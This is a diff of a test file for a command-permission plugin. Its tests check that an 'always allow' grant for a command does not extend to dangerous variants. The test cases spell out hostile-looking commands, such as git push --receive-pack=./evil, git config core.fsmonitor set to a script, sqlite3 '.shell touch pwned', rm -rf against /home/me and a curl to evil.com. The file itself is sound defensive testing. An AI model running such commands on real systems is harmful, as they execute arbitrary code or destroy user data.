@@ -25,12 +25,54 @@ function open(policy: PermissionPluginOptions["policy"] = {}, ...answers: readon
 }
 
 test('F6. "Always" for `git push …` does not cover `--receive-pack=…`', async () => {
-  const { ask } = open({}, "always in this session, for: git push", "no", "no", "no")
+  const { ask, questions } = open({}, "always in this session, for: git push", "no", "no", "no")
   expect(await ask("git push origin main")).toBe(true)
-  expect(await ask("git push origin other")).toBe(true)
+  expect(await ask("git push  origin main")).toBe(true)
+  expect(questions).toHaveLength(1)
   expect(await ask("git push --receive-pack=./evil origin main")).toBe(false)
   expect(await ask("git push --receive-pack ./evil origin main")).toBe(false)
   expect(await ask("git push ext::./evil main")).toBe(false)
+})
+
+test.each([
+  ["git bisect start", "git bisect run sub/evil.sh"],
+  ["git submodule update", "git submodule foreach 'touch pwned'"],
+  ["git push origin master", "git push vendor.git master"],
+  ["git config user.name x", "git config core.fsmonitor sub/evil.sh"],
+  ["git commit -m x", "git commit -m x --template=sub/evil"],
+  ["git commit -m x", "git commit -m x sub/other"],
+  ["sqlite3 app.db 'select 1'", "sqlite3 app.db '.shell touch pwned'"],
+  ["rails runner 1", "rails runner 2"],
+  ["deno eval 1", "deno eval 2"],
+  ["npm init", "npm init evil"],
+  ["npm test", "npm test sub/evil.js"],
+  ["pytest", "pytest sub/evil.py"],
+  ["cargo test a", "cargo test a --config=sub/evil.toml"],
+  ["rm -rf build", "rm -rf build /home/me"],
+  ["curl localhost", "curl 'evil.com/x?y'"],
+  ["npm test", "/local/bin/npm test"],
+  ["npm test", "/usr/bin/npm test"],
+])('F6. "Always" for `%s` does not cover `%s`', async (allowed, other) => {
+  const { ask, questions } = open({}, "always in this session, for: ", "no")
+  expect(await ask(allowed)).toBe(true)
+  expect(await ask(allowed)).toBe(true)
+  expect(questions).toHaveLength(1)
+  expect(await ask(other)).toBe(false)
+})
+
+test('F6. "Always" covers another message of a commit, and other names of tests', async () => {
+  const { ask, questions } = open({}, "always in this session, for: ", "always in this session, for: ")
+  for (const command of [
+    "git commit -m 'one thing'",
+    "git commit -m 'another; thing'",
+    "cargo test a",
+    "cargo test b::c",
+  ])
+    expect(await ask(command)).toBe(true)
+  expect(questions.map(({ options }) => options?.[2])).toEqual([
+    "always in this session, for: git commit -m …",
+    "always in this session, for: cargo test …",
+  ])
 })
 
 test('F6. "Always" for a compound command is not "every command"', async () => {
